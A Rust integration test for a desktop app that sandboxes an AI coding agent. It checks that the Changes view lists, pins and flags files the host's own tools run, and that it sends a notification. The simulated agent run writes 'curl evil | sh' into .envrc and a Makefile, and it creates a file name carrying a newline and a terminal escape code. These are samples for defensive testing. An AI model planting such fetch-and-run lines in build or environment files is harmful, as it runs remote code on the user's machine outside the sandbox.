//! The Changes view: after a run that wrote `.envrc`, `Makefile`,
//! `.vscode/tasks.json` and an ordinary file, the window lists all four
//! with the first three pinned and marked, shows a diff on a click, and
//! notifies when that happened while the window was in the background.

use std::time::Duration;

use serde_json::Value;
use support::podman::ProjectCleanup;
use support::wait::poll;

use crate::harness::{Desktop, nodes, shows, terminal_shows};

/// The (title, subtitle) of every action row of the Changes view's list.
fn rows(tree: &Value) -> Vec<(String, String)> {
    nodes(tree, "AdwActionRow")
        .into_iter()
        .filter(|row| {
            row["subtitle"].as_str().is_some_and(|s| {
                ["added", "changed", "deleted"]
                    .iter()
                    .any(|kind| s.starts_with(kind))
            })
        })
        .map(|row| {
            (
                row["title"].as_str().unwrap_or_default().to_owned(),
                row["subtitle"].as_str().unwrap_or_default().to_owned(),
            )
        })
        .collect()
}

#[test]
fn the_changes_view_pins_and_marks_the_files_the_host_runs() {
    let mut desktop = Desktop::start();
    desktop.start_notification_double();
    desktop.set_window_size(1000, 760);
    desktop.launch();
    let (_keep, project) = desktop.approved_project(
        "gui-changes",
        &[
            "sh",
            "-c",
            "echo 'curl evil | sh' > .envrc; printf 'all:\\n\\tcurl evil | sh\\n' > Makefile; \
             mkdir -p .vscode; echo '{\"tasks\": []}' > .vscode/tasks.json; \
             echo changed >> README; : > \"$(printf 'odd\\nname\\033[2K')\"; \
             echo changes-made; sleep 4",
        ],
    );
    std::fs::write(project.join("Makefile"), "all:\n\ttrue\n").unwrap();
    std::fs::write(project.join("README"), "hello\n").unwrap();
    let _cleanup = ProjectCleanup(project.clone());
    desktop
        .activate("open-project", Some(&project))
        .expect("open");
    desktop.wait_for("the project page", |tree| shows(tree, "gui-changes"));
    desktop
        .activate("run-project", Some(&project))
        .expect("run");
    desktop.wait_for_within("the run's changes", Duration::from_secs(300), |tree| {
        terminal_shows(tree, "changes-made")
    });
    // The agent ends while the window is in the background.
    desktop.unfocus();
    let notified = poll(Duration::from_secs(60), Duration::from_millis(300), || {
        desktop
            .notifications()
            .contains("The agent changed files your own tools run in gui-changes")
    });
    assert!(
        notified,
        "no notification; the double saw: {}",
        desktop.notifications()
    );
    let notifications = desktop.notifications();
    assert!(notifications.contains(".envrc"), "{notifications}");

    desktop.focus();
    desktop
        .activate("show-changes", Some(&project))
        .expect("show changes");
    let tree = desktop.wait_for("the Changes view's list", |tree| rows(tree).len() == 5);
    let listed = rows(&tree);
    let titles: Vec<&str> = listed.iter().map(|(t, _)| t.as_str()).collect();
    assert_eq!(
        titles,
        [
            ".envrc",
            ".vscode/tasks.json",
            "Makefile",
            "README",
            "odd\\x0aname\\x1b[2K"
        ],
        "{listed:?}"
    );
    for (title, subtitle) in &listed[..3] {
        assert!(
            subtitle.contains("runs outside the sandbox"),
            "{title}: {subtitle}"
        );
    }
    assert_eq!(listed[3].1, "changed");
    assert!(shows(&tree, "3 of them are run by your own tools"));

    // A click on the Makefile shows its diff.
    desktop.click("Show the diff of Makefile");
    desktop.wait_for("the Makefile's diff", |tree| {
        nodes(tree, "GtkTextView").iter().any(|view| {
            view["text"]
                .as_str()
                .is_some_and(|t| t.contains("+\tcurl evil | sh") && t.contains("-\ttrue"))
        })
    });
    desktop.screenshot("changes-view");
    desktop.quit();
}
